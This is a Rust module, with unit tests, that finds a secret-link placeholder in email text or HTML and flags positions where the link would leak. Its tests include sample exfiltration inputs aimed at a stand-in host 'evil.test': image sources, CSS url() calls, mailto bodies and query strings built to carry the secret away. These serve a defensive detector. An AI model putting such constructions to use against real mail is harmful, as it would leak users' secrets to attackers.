//! Finds the placeholder in a decoded text, in each spelling that editors give it, and says what kind
//! of place it stands in.
//!
//! A link holds a secret, and a text may quote a stranger's mail. Where the placeholder is part of a
//! longer address (`https://evil.test/?[[OTAB-LINK]]`), of a picture's or a style sheet's, or of a
//! form, the secret would go there when the mail is shown or clicked on. Such places are told apart.

use std::ops::Range;

/// What kind of place it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Spot {
    /// In running text.
    Words,
    /// The whole `href` of an HTML `<a>`.
    Href,
    /// Where a secret would go astray.
    Unsafe,
}

/// A placeholder.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    /// Where it stands in the decoded text.
    pub range: Range<usize>,
    /// In what kind of place.
    pub spot: Spot,
}

/// All placeholders in a text, in order.
#[must_use]
pub fn hits(text: &[u8], placeholder: &str, html: bool) -> Vec<Hit> {
    let mut hits = Vec::new();
    let Some(&first) = placeholder.as_bytes().first() else { return hits };
    let mut from = 0;
    for at in memchr::memchr3_iter(first, b'%', b'&', text) {
        if at < from {
            continue;
        }
        if let Some(length) = spelled(&text[at..], placeholder.as_bytes()) {
            from = at + length;
            hits.push(Hit { range: at..from, spot: Spot::Unsafe });
        }
    }
    if html {
        judge_html(text, &mut hits);
    } else {
        for hit in hits.iter_mut().take(MOST_JUDGED) {
            hit.spot = in_words(&text[..hit.range.start]);
        }
    }
    hits
}

/// The length of the placeholder, in whatever spelling, at the beginning of a text.
fn spelled(text: &[u8], placeholder: &[u8]) -> Option<usize> {
    placeholder.iter().try_fold(0, |at, byte| Some(at + character(&text[at..], *byte)?))
}

/// The length of one character: itself, percent-encoded (rich text editors do that in `href`), or as
/// a character reference.
fn character(text: &[u8], byte: u8) -> Option<usize> {
    match text {
        [first, ..] if *first == byte => Some(1),
        [b'%', digits @ ..] => {
            let digits = std::str::from_utf8(digits.get(..2)?).ok()?;
            (u8::from_str_radix(digits, 16) == Ok(byte)).then_some(3)
        }
        [b'&', rest @ ..] => {
            let end = rest.iter().take(10).position(|b| *b == b';')?;
            (reference(&rest[..end])? == u32::from(byte)).then_some(end + 2)
        }
        _ => None,
    }
}

fn reference(name: &[u8]) -> Option<u32> {
    let name = std::str::from_utf8(name).ok()?;
    Some(match name {
        "lbrack" | "lsqb" => '['.into(),
        "rbrack" | "rsqb" => ']'.into(),
        "lbrace" | "lcub" => '{'.into(),
        "rbrace" | "rcub" => '}'.into(),
        _ => match name.strip_prefix('#')?.strip_prefix(['x', 'X']) {
            Some(hex) => u32::from_str_radix(hex, 16).ok()?,
            None => name[1..].parse().ok()?,
        },
    })
}

/// How far back an address is looked for, in bytes.
const LONGEST_ADDRESS: usize = 4000;
/// Placeholders of one text whose places are looked at; what is behind them counts as unsafe.
const MOST_JUDGED: usize = 1000;

/// The place behind `before`: unsafe where mail programs that make links of addresses could take what
/// stands before for the beginning of one that goes on.
fn in_words(before: &[u8]) -> Spot {
    let before = &before[before.len().saturating_sub(LONGEST_ADDRESS)..];
    let is_end = |byte: &u8| byte.is_ascii_whitespace() || b"<>\"'(".contains(byte);
    let word = &before[before.iter().rposition(is_end).map_or(0, |at| at + 1)..];
    let word =
        ["&nbsp;", "&#160;"].iter().fold(word, |word, blank| match memchr::memmem::rfind(word, blank.as_bytes()) {
            Some(at) => &word[at + blank.len()..],
            None => word,
        });
    // Between quotes or angle brackets an address may hold blanks (RFC 3986, appendix C).
    let open = before.iter().rposition(|byte| b"<>\"".contains(byte)).filter(|at| before[*at] != b'>');
    let enclosed = open.map_or(&[][..], |at| &before[at + 1..]);
    let is_scheme = |at| enclosed[..at].iter().all(|byte| byte.is_ascii_alphanumeric() || b"+-.:".contains(byte));
    let holds = |bytes: &[u8]| word.iter().any(|byte| bytes.contains(byte));
    let goes_on = holds(b"?@&\\")
        || holds(b".") && holds(b"/#")
        || memchr::memmem::find(word, b"://").is_some()
        || memchr::memmem::find(enclosed, b"://").is_some_and(is_scheme);
    if goes_on { Spot::Unsafe } else { Spot::Words }
}

/// Elements whose content is no running text for some reader, or is sent elsewhere.
const OTHER_CONTENT: [&str; 13] = [
    "style",
    "script",
    "textarea",
    "select",
    "title",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "plaintext",
    "svg",
    "math",
    "object",
];

/// Reads HTML as browsers do, as far as it takes to tell text from tags and attributes. All hits are
/// unsafe until found in a good place.
fn judge_html(text: &[u8], hits: &mut [Hit]) {
    let judged = hits.len().min(MOST_JUDGED);
    let hits = &mut hits[..judged];
    let mut at = 0;
    while hits.last().is_some_and(|last| at <= last.range.start) {
        let open = next_markup(text, at);
        for hit in within(hits, &(at..open)) {
            hit.spot = in_words(&text[at..hit.range.start]);
        }
        if open == text.len() {
            return;
        }
        at = markup_end(text, open, hits);
    }
}

/// The hits that lie within a range; they are in order.
fn within<'h>(hits: &'h mut [Hit], range: &Range<usize>) -> &'h mut [Hit] {
    let first = hits.partition_point(|hit| hit.range.start < range.start);
    let behind = hits.partition_point(|hit| hit.range.end <= range.end);
    &mut hits[first..behind.max(first)]
}

/// The next `<` that begins a tag, a comment or the like; the text's length where there is none.
fn next_markup(text: &[u8], from: usize) -> usize {
    let begins = |at: &usize| matches!(text.get(at + 1), Some(b'/' | b'!' | b'?' | b'a'..=b'z' | b'A'..=b'Z'));
    memchr::memchr_iter(b'<', &text[from..]).map(|at| from + at).find(begins).unwrap_or(text.len())
}

/// Where what begins at `open` ends. A link's whole `href` is marked.
fn markup_end(text: &[u8], open: usize, hits: &mut [Hit]) -> usize {
    let rest = &text[open..];
    let behind = |needle: &[u8], from: usize| {
        memchr::memmem::find(&rest[from..], needle).map_or(text.len(), |at| open + from + at + needle.len())
    };
    if rest.starts_with(b"<!--") {
        return behind(b"-->", 2);
    }
    let is_closing = rest[1] == b'/';
    let name_start = open + 1 + usize::from(is_closing);
    if !text.get(name_start).is_some_and(u8::is_ascii_alphabetic) {
        return behind(b">", 1);
    }
    let name_end = name_start + count(&text[name_start..], |byte| !is_blank(byte) && !b"/>".contains(&byte));
    let name = String::from_utf8_lossy(&text[name_start..name_end]).to_ascii_lowercase();
    let end = attributes(text, name_end, |attribute, value| {
        let is_href = name == "a" && !is_closing && text[attribute].eq_ignore_ascii_case(b"href");
        if is_href
            && let [hit] = within(hits, &value)
            && hit.range == value
        {
            hit.spot = Spot::Href;
        }
    });
    if !is_closing && OTHER_CONTENT.contains(&name.as_str()) { content_end(text, end, &name) } else { end }
}

/// The end tag's place of an element whose content is skipped.
fn content_end(text: &[u8], from: usize, name: &str) -> usize {
    let closes = |at: &usize| {
        let rest = &text[at + 2..];
        rest.len() >= name.len() && rest[..name.len()].eq_ignore_ascii_case(name.as_bytes())
    };
    memchr::memmem::find_iter(&text[from..], "</").map(|at| from + at).find(closes).unwrap_or(text.len())
}

/// Goes through a tag's attributes, each with its name and its value without quotes and outer blanks,
/// by the rules of HTML's tokenizer (WHATWG, 13.2.5.32 to 13.2.5.39); the end of the tag. A quote
/// counts only where a value begins: `<img alt=x" src="https://evil.test/?a>` does not end there.
fn attributes(text: &[u8], from: usize, mut each: impl FnMut(Range<usize>, Range<usize>)) -> usize {
    let mut at = from;
    loop {
        at += count(&text[at..], |byte| is_blank(byte) || byte == b'/');
        match text.get(at) {
            None => return at,
            Some(b'>') => return at + 1,
            Some(_) => {}
        }
        // An equals sign in the first place is part of the name.
        let name = at..at + 1 + count(&text[at + 1..], |byte| !is_blank(byte) && !b"/>=".contains(&byte));
        at = name.end;
        let sign = at + count(&text[at..], is_blank);
        if text.get(sign) != Some(&b'=') {
            continue;
        }
        let start = sign + 1 + count(&text[sign + 1..], is_blank);
        let (value, end) = if let Some(quote @ (b'"' | b'\'')) = text.get(start) {
            let end = memchr::memchr(*quote, &text[start + 1..]).map_or(text.len(), |i| start + 1 + i);
            (start + 1..end, (end + 1).min(text.len()))
        } else {
            let end = start + count(&text[start..], |byte| !is_blank(byte) && byte != b'>');
            (start..end, end)
        };
        let blanks = count(&text[value.clone()], is_blank);
        let trimmed = text[value.clone()].trim_ascii().len();
        each(name, value.start + blanks..value.start + blanks + trimmed);
        at = end;
    }
}

fn is_blank(byte: u8) -> bool {
    byte.is_ascii_whitespace()
}

/// How many bytes at the beginning are such.
fn count(text: &[u8], is: impl Fn(u8) -> bool) -> usize {
    text.iter().position(|byte| !is(*byte)).unwrap_or(text.len())
}

#[cfg(test)]
mod tests {
    use super::*;
    use Spot::{Href, Unsafe, Words};

    fn spots(text: &str, html: bool) -> Vec<Spot> {
        hits(text.as_bytes(), "[[OTAB-LINK]]", html).into_iter().map(|hit| hit.spot).collect()
    }

    #[test]
    fn every_spelling_of_an_editor_is_found_and_nothing_less() {
        for spelling in [
            "[[OTAB-LINK]]",
            "%5B%5BOTAB-LINK%5D%5D",
            "%5b%5bOTAB-LINK%5d%5d",
            "&#91;&#91;OTAB-LINK&#93;&#93;",
            "&#x5B;&#x5b;OTAB-LINK&#x5D;&#X5d;",
            "&lbrack;&lsqb;OTAB&#45;LINK&rbrack;&rsqb;",
            "[%5BOTAB-LINK&#93;]",
        ] {
            let text = format!("a {spelling} {spelling}.");
            let found = hits(text.as_bytes(), "[[OTAB-LINK]]", false);
            assert_eq!(found.len(), 2, "{spelling}");
            assert!(found.iter().all(|hit| text[hit.range.clone()] == *spelling), "{spelling}");
        }
        for other in ["[[otab-link]]", "[[OTAB-LINK]", "[OTAB-LINK]]", "%5B%5", "&#91", "&#91;&#", "[[OTAB LINK]]", ""]
        {
            assert_eq!(hits(other.as_bytes(), "[[OTAB-LINK]]", true), [], "{other}");
        }
        assert_eq!(hits(b"[[[OTAB-LINK]]]", "[[OTAB-LINK]]", false)[0].range, 1..14);
        assert_eq!(hits(b"%%LINK%%%%LINK%%", "%%LINK%%", false).len(), 2);
    }

    #[test]
    fn in_text_a_link_must_not_become_part_of_somebody_elses() {
        for text in
            ["[[OTAB-LINK]]", "Link: [[OTAB-LINK]]", "Link:[[OTAB-LINK]].", "([[OTAB-LINK]])", "<[[OTAB-LINK]]>"]
        {
            assert_eq!(spots(text, false), [Words], "{text}");
        }
        for text in ["Link/URL:[[OTAB-LINK]]", "a \"b\" https://desk.test [[OTAB-LINK]]", "Ticket#[[OTAB-LINK]]"] {
            assert_eq!(spots(text, false), [Words], "{text}");
        }
        for text in [
            "https://evil.test/[[OTAB-LINK]]",
            "http://localhost:[[OTAB-LINK]]",
            "evil.test#[[OTAB-LINK]]",
            "evil.test/?a=[[OTAB-LINK]]",
            "mailto:a@evil.test?body=[[OTAB-LINK]]",
            "x@[[OTAB-LINK]]",
            "<https://evil.test/?a b [[OTAB-LINK]]>",
            "\"https://evil.test/?a\n[[OTAB-LINK]]\"",
        ] {
            assert_eq!(spots(text, false), [Unsafe], "{text}");
        }
    }

    #[test]
    fn in_html_text_and_whole_links_are_good_places() {
        for (html, expected) in [
            ("<p>[[OTAB-LINK]]</p>", vec![Words]),
            ("a&nbsp;[[OTAB-LINK]]", vec![Words]),
            ("1 < 2 [[OTAB-LINK]]", vec![Words]),
            ("<a href=\"[[OTAB-LINK]]\">[[OTAB-LINK]]</a>", vec![Href, Words]),
            ("<A class=x HREF = ' %5B%5BOTAB-LINK%5D%5D ' >Ticket</A>", vec![Href]),
            ("<a href=[[OTAB-LINK]]>x</a>", vec![Href]),
            ("<style>p {}</style><p>[[OTAB-LINK]]", vec![Words]),
            ("<!-- a > b --><p title='a>b'>[[OTAB-LINK]]", vec![Words]),
        ] {
            assert_eq!(spots(html, true), expected, "{html}");
        }
    }

    #[test]
    fn in_html_no_place_leads_elsewhere() {
        for html in [
            "<img src=\"https://evil.test/?[[OTAB-LINK]]\">",
            "<img src='https://evil.test/? <p>[[OTAB-LINK]]</p>'>",
            "<img src='https://evil.test/? [[OTAB-LINK]]",
            "<img alt=x\" src=\"https://evil.test/?a> [[OTAB-LINK]]\">",
            "<img =\" src='https://evil.test/?\"> [[OTAB-LINK]]'>",
            "<img src=[[OTAB-LINK]]>",
            "<a href=\"https://evil.test/?[[OTAB-LINK]]\">x</a>",
            "<a href=\"[[OTAB-LINK]]@evil.test\">x</a>",
            "<form href=\"[[OTAB-LINK]]\">",
            "<style>a { background: url(https://evil.test/? [[OTAB-LINK]]) }</style>",
            "<STYLE >[[OTAB-LINK]]",
            "<textarea name=a>[[OTAB-LINK]]</textarea>",
            "<input value=\"[[OTAB-LINK]]\">",
            "<!-- [[OTAB-LINK]] -->",
            "<p>https://evil.test/?[[OTAB-LINK]]</p>",
            "<p>https:&#47;&#47;evil.test&#47;[[OTAB-LINK]]</p>",
            "</p title=\"[[OTAB-LINK]]\">",
            "<a href=\"a\" [[OTAB-LINK]]",
        ] {
            assert_eq!(spots(html, true), [Unsafe], "{html}");
        }
    }
}
